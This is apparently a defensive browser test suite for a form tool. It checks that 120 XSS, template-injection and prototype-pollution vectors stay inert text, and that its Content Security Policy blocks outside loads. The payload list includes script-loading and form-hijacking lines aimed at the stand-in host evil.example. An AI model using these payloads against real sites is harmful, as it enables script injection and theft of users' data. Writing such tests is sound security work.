// SPDX-FileCopyrightText: 2026 The Soundings authors
// SPDX-License-Identifier: GPL-3.0-or-later

// Whatever stands in a form or in an answer is text: it runs nothing, asks for nothing, and comes back as it was.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";

import { cleanUp, openBrowser, openPage, readBack, sampleForm, writePage } from "./harness.mjs";

// Ways to run something or to fetch something, each in a place that it was made for.
const deeds = [
  `<script>ran=1</script>`,
  `<script src="https://evil.example/a.js"></script>`,
  `<img src=x onerror=ran=1>`,
  `<svg/onload=ran=1>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<a href="javascript:ran=1" autofocus onfocus=ran=1>x</a>`,
  `<link rel=stylesheet href=https://evil.example/a.css>`,
  `<style>@import url(https://evil.example/b.css);*{display:none}</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href=https://evil.example/><form action=/steal><button autofocus>Save my answers</button></form>`,
  `<object data=https://evil.example/c></object><embed src=https://evil.example/d>`,
  `<details open ontoggle=ran=1><video src=https://evil.example/e autoplay>`,
  `<template><slot onslotchange=ran=1></slot></template><math><mtext></mtext><mglyph>`,
  `javascript:ran=1//`,
  `";ran=1;//\`;ran=1;//';ran=1;//`,
  `\${ran=1}#{ran=1}{{script}}{{ran=1}}`,
  `\\u003cscript\\u003eran=1\\u003c/script\\u003e`,
  `&lt;script&gt;ran=1&lt;/script&gt;&#60;img src=x onerror=ran=1&#62;`,
  `+ADw-script+AD4-ran=1+ADw-/script+AD4-`,
  `__proto__ constructor toString "},"until":"0001-01-01","__proto__":{"x":"`,
];
// Ways to get out of the place first.
const escapes = ["", `"'>`, "</script>", "--></title></style><!--<script>", "</option></select></textarea></legend>", "x\u2028]]>\\\"\\\u2029"];
const vectors = escapes.flatMap((escape) => deeds.map((deed) => escape + deed));

function hostileForm(vector) {
  const form = sampleForm();
  form.title = form.introduction = vector;
  form.functions = [{ id: vector, text: vector }, { id: "sales", text: "Sales" }];
  for (const field of form.fields) {
    field.id += vector;
    field.label = field.help = vector;
    for (const choice of field.choices || []) Object.assign(choice, { id: choice.id + vector, text: vector });
  }
  return form;
}

let browser;
before(async () => { browser = await openBrowser(); });
after(async () => {
  await browser.close();
  cleanUp();
});

// In the page: counts its elements, hands in nothing and so has every label said again as an error, then writes `vector`
// wherever something can be written and hands that in.
function handIn(vector) {
  const find = (selector) => document.querySelector(selector), form = find("form");
  const elements = {};
  for (const node of document.querySelectorAll("*")) elements[node.tagName] = (elements[node.tagName] || 0) + 1;
  const texts = { title: find("#title").textContent, tab: document.title, introduction: find("#introduction").textContent,
                  function: find("option:nth-child(2)").textContent, choice: find(".choice span").textContent,
                  label: find("#fields label.label").textContent, help: find("#fields .help").textContent };
  form.requestSubmit();
  texts.error = find("#error-list li:last-child").textContent.replace(/^“|” needs an answer\.$/g, "");
  for (const field of document.querySelectorAll("#about input, #fields textarea")) field.value = vector;
  find("#fields input[type=text]").value = vector;
  find("select").selectedIndex = 1;
  find("#fields input[type=radio]").checked = true;
  form.dispatchEvent(new Event("input"));
  form.requestSubmit();
  return { elements, texts, said: find("#done-words").textContent, answers: find("#text").value };
}

test("there are 120 different ones", () => {
  assert.equal(new Set(vectors).size, 120);
});

test("in every field of the form and in every answer they are text", async () => {
  const plain = await openPage(browser, writePage(sampleForm()));
  // One function less than in the sample; help where the sample has none.
  const { elements: expected } = await plain.page.evaluate(handIn, "x");
  expected.OPTION -= 1;
  expected.P += sampleForm().fields.filter((field) => !field.help).length;
  await plain.close();

  const written = writePage(sampleForm()); // another one for each, in the same window
  const { page, watched, close } = await openPage(browser, written);
  for (const vector of vectors) {
    const form = hostileForm(vector), [saw, cause, only] = form.fields;
    Object.assign(written, writePage(form));
    await page.goto(written.address);
    const shown = await page.evaluate(handIn, vector);
    assert.deepEqual(shown.elements, expected, vector);
    for (const [place, text] of Object.entries(shown.texts)) assert.equal(text, vector, place);
    assert.match(shown.said, /^Look for answers-[\p{L}\p{M}\p{N}-]+\.soundings-answers\.json among/u);
    const file = readBack(shown.answers, written);
    assert.deepEqual(file.answers, { [saw.id]: vector, [cause.id]: cause.choices[0].id, [only.id]: vector }, vector);
    assert.equal(file.person, vector);
    assert.equal(file.function, vector);
    await page.reload(); // the draft brings all of it back
    assert.equal(await page.evaluate(() => document.querySelector("#fields textarea").value), vector);
    assert.equal(await page.evaluate(() => typeof window.ran), "undefined");
    assert.deepEqual(watched, [], vector);
  }
  await close();
});

test("the policy stops what would come in all the same", async () => {
  const { page, context, watched, close } = await openPage(browser, writePage(sampleForm()));
  const stopped = [];
  context.on("requestfailed", (request) => stopped.push(request.failure().errorText + " " + request.url()));
  await page.evaluate(() => {
    const holder = document.createElement("div");
    holder.innerHTML = `<img src=https://evil.example/a onerror="ran=1"><iframe src=https://evil.example/></iframe>`;
    document.body.append(holder);
    const script = document.createElement("script");
    script.textContent = "window.ran = 1";
    document.body.append(script);
  });
  await page.waitForFunction(() => document.querySelector("iframe").contentDocument !== undefined);
  await assert.rejects(page.evaluate(() => fetch("https://evil.example/")));
  assert.equal(await page.evaluate(() => typeof window.ran), "undefined");
  assert.ok(watched.some((what) => what.startsWith("console:") && what.includes("Content Security Policy")));
  // The driver tells of a request also where the policy has stopped it before it left.
  const left = watched.filter((what) => what.startsWith("request:")).map((what) => what.replace("request:", "csp"));
  assert.deepEqual(left.filter((what) => !stopped.includes(what)), []);
  await close();
});
